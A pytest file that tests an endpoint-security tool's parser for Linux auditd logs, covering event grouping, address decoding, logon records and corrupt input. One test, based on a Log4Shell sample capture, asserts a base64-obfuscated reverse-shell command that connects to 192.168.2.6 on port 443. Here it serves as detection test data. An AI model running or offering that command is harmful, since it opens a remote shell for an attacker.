import gzip
import json

import pytest

from eguard.errors import CorruptFileError
from eguard.events import UNCOUNTED, EventClass
from eguard.events.parsers import ParseReport, detect_format, read_events

HEAD = "type=%s msg=audit(1550505632.285:%d): "
EXEC = [
    HEAD % ("SYSCALL", 7)
    + 'syscall=59 success=yes ppid=22 pid=33 auid=1 uid=0 euid=0 comm="sh" exe="/bin/dash" key=(null)',
    HEAD % ("EXECVE", 7) + 'argc=3 a0="/bin/sh" a1="-c" a2=69707461626C6573202D2D76657273696F6E',
    HEAD % ("CWD", 7) + 'cwd="/tmp"',
    HEAD % ("PATH", 7) + 'item=0 name="/bin/sh" nametype=NORMAL',
    HEAD % ("PATH", 7) + 'item=1 name="/lib64/ld.so" nametype=NORMAL',
    HEAD % ("EOE", 7),
]
CONNECT = [
    HEAD % ("SYSCALL", 8) + 'syscall=42 success=%s pid=34 ppid=1 uid=33 euid=33 comm="curl" exe="/usr/bin/curl"',
    HEAD % ("SOCKADDR", 8) + "saddr=%s",
]


def test_records_of_one_serial_are_one_event(parse):
    (event,), report = parse("\n".join(EXEC), "auditd", group="web1")
    assert (event.event_class, event.event_type) == (EventClass.PROCESS_EXEC, "exec")
    assert (event.host_id, event.comm, event.image_path, event.pid, event.parent_pid) == (
        *("web1", "sh", "/bin/dash", 33, 22),
    )
    assert event.command_line == "/bin/sh -c iptables --version"
    assert event.is_elevated
    fields = event.fields
    assert (fields["type"], fields["a0"], fields["a2"]) == ("EXECVE", "/bin/sh", "iptables --version")
    assert (fields["Image"], fields["CurrentDirectory"], fields["name"]) == ("/bin/dash", "/tmp", "/bin/sh")
    assert dict(report.skipped) == {"continued_event": 4, "end_of_event": 1}


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("020001BB0A000009", ("10.0.0.9", 443)),
        ("0A0001BB00000000" + "00" * 15 + "01", ("::1", 443)),
        ("01002F72756E", ("", 0)),
        ("zz", ("", 0)),
    ],
)
def test_connections_name_their_destination(parse, address, expected):
    (event,), _ = parse("\n".join(CONNECT) % ("yes", address), "auditd", group="h")
    assert (event.event_class, event.event_type) == (EventClass.NETWORK_CONNECT, "net")
    assert (event.destination_address, event.destination_port) == expected


def test_a_call_that_failed_is_told_but_not_counted(parse):
    (event,), _ = parse("\n".join(CONNECT) % ("no", "020001BB0A000009"), "auditd", group="h")
    assert (event.event_class, event.event_type) == (UNCOUNTED, "net_failed")


@pytest.mark.parametrize(
    ("kind", "event_type", "event_class"),
    [
        ("USER_START", "logon", EventClass.LOGIN),
        ("USER_END", "logoff", EventClass.LOGIN),
        ("CRED_ACQ", "authentication", UNCOUNTED),
        ("USER_CMD", "sudo_command", UNCOUNTED),
        ("AVC", "other", UNCOUNTED),
    ],
)
def test_records_of_log_ons_and_others(parse, kind, event_type, event_class):
    text = HEAD % (kind, 1) + 'pid=5 uid=0 msg=\'op=x acct="root" exe="/usr/sbin/cron" cmd=6C73202D6C res=success\''
    (event,), _ = parse(text, "auditd", group="h")
    assert (event.event_type, event.event_class) == (event_type, event_class)


def test_lines_that_are_no_records_are_counted(parse):
    text = "\n".join(["garbage audit(", *EXEC, HEAD % ("CWD", 9) + "cwd=\xff"]).encode("latin-1")
    events, report = parse(text, "auditd", group="h")
    assert len(events) == 1
    assert dict(report.rejected) == {"bad_record": 1, "not_utf8": 1}


def test_an_event_without_host_is_bad(parse, tmp_path):
    nodes = "\n".join(f"node=n1 {line}" for line in CONNECT) % ("yes", "00")
    events, report = parse(f"{EXEC[0]}\n{nodes}", "auditd")
    assert [event.host_id for event in events] == ["n1"]
    assert dict(report.rejected) == {"no_host": 1}


def test_the_event_before_damage_is_delivered(tmp_path):
    path = tmp_path / "audit.log.gz"
    lines = [line.replace(":7)", f":{serial})") for serial in range(3_000) for line in EXEC]
    path.write_bytes(gzip.compress("\n".join(lines).encode())[:-300])
    events, report = [], ParseReport()
    with pytest.raises(CorruptFileError):
        events.extend(read_events(path, "auditd", report, "h"))
    assert len(events) == report.accepted > 1_000


def test_auoms_inside_syslog(raw):
    path = raw / "endpoint-events" / "raw" / "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"
    assert detect_format(path) == "auditd"
    events = list(read_events(path))
    kinds = [event.event_type for event in events]
    assert (kinds.count("exec"), kinds.count("exec_failed"), len(events)) == (27, 23, 50)
    shell = next(event for event in events if event.event_type == "exec")
    assert (shell.host_id, shell.comm, shell.user, shell.pid, shell.parent_pid) == (
        *("ubuntu5", "bash", "tomcat", 17790, 1340),
    )
    assert shell.command_line == (
        'bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"'
    )
    assert (shell.time_unix, shell.is_elevated) == (1652292621.99, False)


def test_the_export_of_a_workspace(raw):
    path = raw / "endpoint-other-formats" / "linux_events.csv"
    assert detect_format(path) == "auditd"
    report = ParseReport()
    events = list(read_events(path, report=report))
    kinds = [event.event_type for event in events]
    assert report.rejected.total() == 0
    assert {kind: kinds.count(kind) for kind in set(kinds)} == {
        "exec": 82,
        "logon": 4,
        "logoff": 4,
        "authentication": 8,
        "sudo_command": 2,
    }
    shell = next(event for event in events if event.event_type == "exec")
    assert (shell.host_id, shell.time_unix) == ("msticalertslxvm2", 1550505632.285)
    assert shell.command_line == "/bin/sh -c iptables --version"
    assert (shell.pid, shell.parent_pid, shell.image_path, shell.is_elevated) == (28066, 22536, "/bin/dash", True)


def test_other_syslog_is_passed_over(parse):
    good = {"HostName": "H", "SyslogMessage": EXEC[0].replace(" msg=", " ")}
    rows = [{"SyslogMessage": "sshd: hello"}, {"SyslogMessage": 5}, good, good | {"HostName": None}]
    events, report = parse("\n".join(map(json.dumps, rows)), "auditd")
    assert [event.host_id for event in events] == ["h"]
    assert dict(report.skipped) == {"other_syslog": 2}
    assert dict(report.rejected) == {"no_host": 1}
